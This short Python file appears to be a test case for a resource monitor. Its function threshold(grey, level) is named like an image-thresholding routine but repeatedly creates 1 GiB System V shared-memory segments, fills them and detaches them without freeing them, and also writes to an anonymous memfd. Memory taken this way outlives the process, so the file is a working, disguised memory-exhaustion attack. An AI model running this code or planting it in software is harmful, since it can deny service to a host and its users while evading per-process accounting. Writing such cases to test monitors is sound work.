# Fills memory that belongs to no process: shared segments, and files that exist in memory only.
# expect: not yet
# %%
import ctypes
import os


def shared(system):
    segment = system.shmget(0, 2**30, 0o1600)
    system.shmat.restype = ctypes.c_void_p
    place = system.shmat(segment, None, 0)
    ctypes.memset(place, 1, 2**30)
    system.shmdt(ctypes.c_void_p(place))
    return segment >= 0


# %%
def threshold(grey, level):
    system = ctypes.CDLL(None, use_errno=True)
    if system.shmget(0, 4096, 0o1600) < 0:
        os.write(os.memfd_create("hidden"), b"x" * 2**20)
    while shared(system):
        pass
    return grey < level
